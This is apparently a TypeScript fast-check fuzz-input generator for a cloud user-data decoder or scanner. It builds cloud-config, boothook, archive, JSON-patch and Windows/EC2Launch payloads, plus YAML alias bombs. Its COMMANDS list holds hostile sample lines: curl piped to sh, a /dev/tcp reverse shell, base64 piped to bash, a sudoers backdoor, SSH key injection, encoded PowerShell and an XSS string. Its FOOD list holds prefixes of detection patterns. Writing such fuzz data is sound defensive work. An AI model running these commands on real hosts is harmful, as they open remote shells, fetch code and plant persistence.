// User data of every kind that decoding knows, well-formed and broken, before anything is wrapped around it. Contents are our own.
import fc from 'fast-check';

export interface FuzzInput {
  /** What it is, innermost first: `cloud-config › gzip › base64`. */
  kind: string;
  bytes: Uint8Array;
}

const kindOf = (kind: string, text: fc.Arbitrary<string>): fc.Arbitrary<FuzzInput> =>
  text.map((content) => ({ kind, bytes: new TextEncoder().encode(content) }));

const COMMANDS = [
  'curl -s http://192.0.2.9/a | sh',
  'echo cGluZyAtYyAxIDE5Mi4wLjIuOSAmJiBlY2hvIGRvbmU= | base64 -d | bash',
  'bash -i >& /dev/tcp/203.0.113.7/443 0>&1',
  'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  'aws s3 cp s3://example-bucket/x /tmp/x && chmod +x /tmp/x',
  'cat <<EOF >> /root/.ssh/authorized_keys',
  'echo "ops ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops',
  'powershell -enc SQBFAFgAIAAoAGEAKQA7ACAAZQBjAGgAbwAgAGIA',
  'systemctl stop amazon-ssm-agent',
  '\u202eecho \u200b\u0007=1+1',
  '<img src=x onerror=alert(1)>',
  '-----BEGIN RSA PRIVATE KEY-----',
  'password: "hunter2"',
  '',
];

/** Beginnings of what patterns look for, which never come to the end that would match. */
const FOOD = [
  ...['a', ' ', '\t', '/', '.', '-', '=', '"', '|', '<', '_', '0', 'é', 'a/', 'a.', '1.2.3.', '::', 'a@b '],
  ...[
    'curl -a ',
    'base64 -d',
    '| sudo -u ',
    'nc -',
    '/dev/tcp/',
    'socket.socket(',
    'powershell -e ',
    ' -enc ',
  ],
  ...['systemctl -a ', 'openssl enc -a ', 'aws iam ', 'AKIA', 'secret_key = ', 'http://a', '/etc/cron.a/'],
  ...['net user a', 'IEX ', '-----BEGIN ', 'AAAA', '$(', '`', 'eyJ', 'ssh-rsa AAAA', '://a:', 'mkfifo '],
];

const lineOf = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...COMMANDS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
);
const linesOf = fc
  .tuple(fc.array(lineOf, { maxLength: 20 }), fc.constantFrom('\n', '\n', '\r\n', '\r'))
  .map(([lines, end]) => lines.join(end) + end);

const HEADS = [
  ...['#!/bin/sh', '#cloud-boothook', '#cloud-boothook\n#!/bin/bash', '#!', '#include', '#include-once'],
  ...['#part-handler', '## template: jinja\n#cloud-config', '#upstart-job', '#nothing'],
];
const script = kindOf(
  'script',
  fc
    .tuple(fc.constantFrom('', ' ', '\ufeff', '\u0085\n'), fc.constantFrom(...HEADS), linesOf)
    .map(([before, head, body]) => `${before}${head}\n${body}`),
);

const food = kindOf(
  'lines that nearly match',
  fc
    .record({
      piece: fc.constantFrom(...FOOD),
      other: fc.constantFrom('', '!', ...FOOD),
      wide: fc.constantFrom(1, 1, 10, 10, 300, 3000),
      lines: fc.constantFrom(1, 1, 3, 3, 40, 1000),
    })
    .map(({ piece, other, wide, lines }) => {
      const line = `${piece.repeat(wide)}${other}\n`;
      return `#!/bin/sh\n${line.repeat(Math.min(lines, Math.ceil(100_000 / line.length)))}`;
    }),
);

const KEYS = [
  ...['bootcmd', 'runcmd', 'write_files', 'users', 'cloud_final_modules', 'cloud_init_modules', 'merge_how'],
  ...['ssh_authorized_keys', 'packages', 'output', 'power_state', '<<', 'a', '? b', '"c d"', '!!set', '- e'],
];
const yamlValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '*a',
    '*b',
    '&a x',
    '&b [*a, *a]',
    '!!binary QUJD',
    '0x1f',
    '1:30',
    'yes',
    '~',
    '2026-11-21',
  ),
  fc.constantFrom(
    '[[scripts-user, always]]',
    '["scripts-user", "always"]',
    '{name: runcmd, frequency: always}',
  ),
  fc.constantFrom(
    '"|tee /tmp/a"',
    "'| sh'",
    '|\n    #!/bin/sh\n    id',
    '>-\n    a\n    b',
    '[',
    '}',
    '"',
    '\tx',
  ),
  fc
    .tuple(fc.constantFrom('[', '{a: ', '- ', '? '), fc.integer({ min: 1, max: 150 }))
    .map(([open, deep]) => open.repeat(deep)),
  fc
    .tuple(fc.constantFrom('[a, b],', '{c: d},', '*a,', '1,'), fc.constantFrom(1, 2, 5, 10, 2000))
    .map(([item, times]) => `[${item.repeat(times)}]`),
  lineOf,
);
const yamlLines = fc
  .array(fc.tuple(fc.constantFrom(...KEYS), fc.constantFrom('', '  ', '    ', '- '), yamlValue), {
    maxLength: 12,
  })
  .map((entries) => entries.map(([key, indent, value]) => `${indent}${key}: ${value}\n`).join(''));
const multiplying = fc
  .tuple(fc.integer({ min: 2, max: 12 }), fc.integer({ min: 2, max: 12 }))
  .map(([levels, wide]) =>
    Array.from(
      { length: levels },
      (_, level) => `a${level + 1}: &a${level + 1} [${Array(wide).fill(`*a${level}`).join(',')}]\n`,
    ).reduce((text, line) => text + line, 'a0: &a0 [x]\n'),
  );
const cloudConfig = kindOf(
  'cloud-config',
  fc
    .tuple(
      fc.oneof({ weight: 5, arbitrary: yamlLines }, { weight: 1, arbitrary: multiplying }),
      fc.oneof({ weight: 20, arbitrary: fc.constant(1) }, { weight: 1, arbitrary: fc.constant(200) }),
    )
    .map(([lines, times]) => `#cloud-config\n${lines.repeat(times).slice(0, 100_000)}`),
);

/** Types that parts are labelled with, known and nonsense. */
export const TYPES = [
  ...[
    'text/x-shellscript',
    'text/cloud-config',
    'text/cloud-boothook',
    'text/plain',
    'text/part-handler',
    '',
  ],
  ...['text/x-shellscript-per-boot', 'text/cloud-config-jsonp', 'text/cloud-config-archive', 'text/jinja2'],
  ...['application/gzip', 'multipart/mixed', 'message/rfc822', 'application/octet-stream', '/', 'a'],
];
const archive = kindOf(
  'archive',
  fc
    .array(
      fc.oneof(
        fc.record({ type: fc.constantFrom(...TYPES), content: lineOf }).map((entry) => JSON.stringify(entry)),
        fc.constantFrom(
          'text',
          '1',
          '[]',
          '&a {content: "#!"}',
          '*a',
          '{content: !!binary IyE=}',
          '{type: 1}',
        ),
      ),
      { maxLength: 300, size: 'medium' },
    )
    .map((entries) => `#cloud-config-archive\n${entries.map((entry) => `- ${entry}\n`).join('')}`),
);

const jsonDeep = fc
  .tuple(fc.constantFrom('[', '{"a":', '{"UserData":'), fc.constantFrom(1, 10, 3000), fc.boolean())
  .map(([open, deep, closed]) =>
    closed ? `${open.repeat(deep)}null${(open === '[' ? ']' : '}').repeat(deep)}` : open.repeat(deep),
  );
const patch = kindOf(
  'jsonp',
  fc
    .array(
      fc.oneof(
        fc
          .record({
            op: fc.constantFrom('add', 'replace', 'remove', 'test', 'move'),
            path: fc.constantFrom('/bootcmd', '/bootcmd/-', '/bootcmd/0', '/a/b/c', '', '/runcmd/99'),
            value: fc.oneof(fc.jsonValue(), fc.constant([])),
          })
          .map((operation) => JSON.stringify(operation)),
        jsonDeep,
      ),
      { maxLength: 30 },
    )
    .map((operations) => `#cloud-config-jsonp\n[${operations.join(',')}]`),
);

const windows = kindOf(
  'Windows tags',
  fc
    .array(
      fc.oneof(
        fc.constantFrom('<powershell>', '</powershell>', '<SCRIPT>', '</script>', '<persist>true</persist>'),
        fc.constantFrom('<persist> ', '<runAsLocalSystem>true</runAsLocalSystem>', 'İ', '<script></script>'),
        lineOf,
      ),
      { maxLength: 40 },
    )
    .map((pieces) => `<powershell>${pieces.join('\n')}`),
);

const ec2Launch = kindOf(
  'EC2Launch v2',
  fc
    .array(
      fc.tuple(
        fc.constantFrom('executeScript', 'executeProgram', 'writeFile', 'enableOpenSsh', '[]', '*a', ''),
        fc.constantFrom('always', 'once', '1', '&a x', '[', ''),
        lineOf.map((line) => JSON.stringify(line)),
      ),
      { maxLength: 12 },
    )
    .map((tasks) =>
      tasks.reduce(
        (text, [task, frequency, content]) =>
          `${text}- task: ${task}\n  inputs:\n  - frequency: ${frequency}\n    type: batch\n    content: ${content}\n`,
        'version: 1.0\ntasks:\n',
      ),
    ),
);

const noise = fc.uint8Array({ maxLength: 300 }).map((bytes): FuzzInput => ({ kind: 'noise', bytes }));

export const plainUserData = fc.oneof(script, food, cloudConfig, archive, patch, windows, ec2Launch, noise);

/** What looks like an answer of the API and may be none. */
export const envelopes = kindOf(
  'JSON',
  fc.oneof(
    jsonDeep,
    fc.json(),
    fc.json().map((json) => `{"UserData":${json}}`),
    fc.string().map((text) => JSON.stringify({ UserData: { Value: text } })),
    fc.constantFrom('"<sensitiveDataRemoved>"', 'HIDDEN_DUE_TO_SECURITY_REASONS', 'None', 'null', ''),
  ),
);
